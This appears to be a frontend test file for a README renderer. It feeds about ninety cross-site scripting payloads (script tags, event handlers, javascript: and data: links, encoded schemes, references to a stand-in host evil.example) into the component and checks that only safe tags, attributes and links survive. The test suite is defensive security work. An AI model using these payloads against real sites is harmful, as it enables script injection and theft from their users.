import { render, screen } from "@testing-library/react";
import { describe, expect, it } from "vitest";
import Readme from "./readme";

const script = "alert(1)";

/** What was tried on other pages that show Markdown of strangers. */
const payloads = [
  `<script>${script}</script>`,
  `<ScRiPt src=//evil.example></sCrIpT>`,
  `<script\n>${script}</script\n>`,
  `text <script>${script}</script> text`,
  `<scr<script>ipt>${script}</scr</script>ipt>`,
  `<img src=x onerror=${script}>`,
  `<img src="x" onerror='${script}' />`,
  `text <img src=x onerror=${script}> text`,
  `<svg onload=${script}>`,
  `<svg><script>${script}</script></svg>`,
  `<svg><a xlink:href="javascript:${script}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${script} attributeName=x></svg>`,
  `<math><mi xlink:href="javascript:${script}">x</mi></math>`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<object data="javascript:${script}"></object>`,
  `<embed src="javascript:${script}">`,
  `<form action="javascript:${script}"><button>x</button></form>`,
  `<button formaction="javascript:${script}">x</button>`,
  `<input autofocus onfocus=${script}>`,
  `<details open ontoggle=${script}>x</details>`,
  `<video><source onerror=${script}></video>`,
  `<audio src=x onerror=${script}>`,
  `<body onload=${script}>`,
  `<link rel=stylesheet href=//evil.example>`,
  `<style>@import "//evil.example"; *{background:url(//evil.example)}</style>`,
  `<base href="//evil.example">`,
  `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  `<a href="javascript:${script}">x</a>`,
  `<a href="https://evil.example" onclick=${script}>x</a>`,
  `<template><script>${script}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<!-- --><script>${script}</script> -->`,
  `<!--><img src=x onerror=${script}>-->`,
  `<![CDATA[<script>${script}</script>]]>`,
  `<?xml version="1.0"?><script>${script}</script>`,
  `<!DOCTYPE html [<!ENTITY x "<script>${script}</script>">]>&x;`,
  `<div style="background:url(javascript:${script})">x</div>`,
  `<p\n\nonclick=${script}>x</p>`,
  `[x](javascript:${script})`,
  `[x](JaVaScRiPt:${script})`,
  `[x](  javascript:${script})`,
  `[x](java&#x0A;script:${script})`,
  `[x](java&Tab;script:${script})`,
  `[x](&#106;avascript:${script})`,
  `[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:${script})`,
  `[x](javascript&colon;${script})`,
  `[x](javascript&#58;${script})`,
  `[x](%6Aavascript:${script})`,
  `[x](<javascript:${script}>)`,
  `[x](<java\tscript:${script}>)`,
  `[x](\u0001javascript:${script})`,
  `[x](vbscript:msgbox)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[x](DATA:text/html,<script>${script}</script>)`,
  `[x](blob:https://broker.example/1)`,
  `[x](file:///etc/passwd)`,
  `[x](//evil.example)`,
  `[x](\\\\evil.example)`,
  `[x](/settings)`,
  `[x](#content)`,
  `[x](https://ok.example "x\\" onmouseover=${script} y=\\"")`,
  `[x](https://ok.example' onmouseover='${script})`,
  `[x](https://ok.example"onmouseover="${script})`,
  `[x][y]\n\n[y]: javascript:${script}`,
  `[y]\n\n[y]: data:text/html,x\n[y]: https://ok.example`,
  `![x](javascript:${script})`,
  `![x](https://evil.example/pixel.png)`,
  `![x"onerror="${script}](x)`,
  `![x][y]\n\n[y]: javascript:${script}`,
  `[![x](javascript:${script})](javascript:${script})`,
  `[<img src=x onerror=${script}>](https://ok.example)`,
  `<javascript:${script}>`,
  `<data:text/html,x>`,
  `<https://ok.example/"onmouseover="${script}>`,
  `javascript://ok.example/%0a${script}`,
  `www.ok.example"onmouseover="${script}`,
  `**<script>${script}</script>**`,
  `> <script>${script}</script>`,
  `- <img src=x onerror=${script}>`,
  `1. [x](javascript:${script})`,
  `| a |\n|---|\n| <img src=x onerror=${script}> [x](javascript:${script}) |`,
  `# <svg onload=${script}>`,
  `\`\`\`html\n<script>${script}</script>\n\`\`\``,
  `\`<script>${script}</script>\``,
  `\`\`\`"><script>${script}</script>\nx\n\`\`\``,
  `[^1]\n\n[^1]: <script>${script}</script> [x](javascript:${script})`,
  `- [ ] <input onfocus=${script}>`,
  `&lt;script&gt;${script}&lt;/script&gt;`,
  `&#60;script&#62;${script}&#60;/script&#62;`,
  `~~<script>${script}</script>~~`,
  `{{constructor.constructor('${script}')()}}`,
  `${"> ".repeat(500)}<script>${script}</script>`,
  `${"[".repeat(500)}x${"](javascript:alert(1))".repeat(500)}`,
];

const elements =
  /^(DIV|P|H[3-6]|EM|STRONG|DEL|CODE|PRE|BR|HR|BLOCKQUOTE|OL|UL|LI|A|TABLE|THEAD|TBODY|TR|TH|TD|SUP|SPAN)$/;
const attributes = /^(class|href|rel|scope|start)$/;

describe("a README of a stranger", () => {
  it("is tried with more than sixty payloads", () => expect(new Set(payloads).size).toBeGreaterThan(60));

  it.each(payloads)("does nothing and loads nothing: %s", (payload) => {
    const { container } = render(<Readme text={payload} />);
    for (const element of container.querySelectorAll("*")) {
      expect(element.tagName).toMatch(elements);
      for (const { name, value } of element.attributes) {
        expect(name).toMatch(attributes);
        if (name === "href") expect(value).toMatch(/^(https?:\/\/|mailto:)/);
        if (name === "rel") expect(value).toContain("noopener");
      }
    }
  });

  it("is shown as it was meant", () => {
    const text = [
      "# Lib",
      "### Deep",
      "A [link](https://ok.example/a) and `code` &amp; &copy; &hellip;, <b>bold</b>.",
      "![Build](https://ok.example/badge.svg) mail@ok.example",
      "| a | b |\n|---|---|\n| 1 | 2 |",
      "3. three\n4. four",
      "[ref] ![pic][ref]",
      "[ref]: https://ok.example/ref",
    ].join("\n\n");
    render(<Readme text={text} />);
    expect(screen.getByRole("heading", { name: "Lib", level: 3 })).toBeVisible();
    expect(screen.getByRole("heading", { name: "Deep", level: 4 })).toBeVisible();
    expect(screen.getByRole("link", { name: "link" })).toHaveAttribute("href", "https://ok.example/a");
    expect(screen.getByRole("link", { name: "Build" })).toHaveAttribute("href", "https://ok.example/badge.svg");
    expect(screen.getByRole("link", { name: "mail@ok.example" })).toHaveAttribute("href", "mailto:mail@ok.example");
    expect(screen.getByRole("link", { name: "pic" })).toHaveAttribute("href", "https://ok.example/ref");
    expect(screen.getByText(/& © …, bold\./)).toBeVisible();
    expect(screen.getByRole("columnheader", { name: "b" })).toBeVisible();
    expect(screen.getByRole("cell", { name: "2" })).toBeVisible();
    expect(screen.getAllByRole("list")[0]).toHaveAttribute("start", "3");
    expect(screen.queryByRole("img")).toBeNull();
  });

  it.each(["> ", "- ", "1. ", "* > "])("is plain text where it is nested deeper than anybody writes: %s", (mark) => {
    const { container } = render(<Readme text={`# Lib\n\n${`${mark.repeat(9)}x\n`.repeat(20)}`} />);
    expect(container.querySelector("pre")?.textContent).toContain("# Lib");
  });

  it("has lines of any length", () => {
    const { container } = render(
      <Readme text={`a\n\n${"* ".repeat(30)}\n\n${"- ".repeat(30)}\n\n${"-".repeat(30)}`} />,
    );
    expect(container.querySelectorAll("hr")).toHaveLength(3);
  });

  it("is cut where it is long, and says so", () => {
    render(<Readme text={`${"word ".repeat(50_000)}`} />);
    expect(screen.getByText("The rest of it is not shown.")).toBeVisible();
  });
});
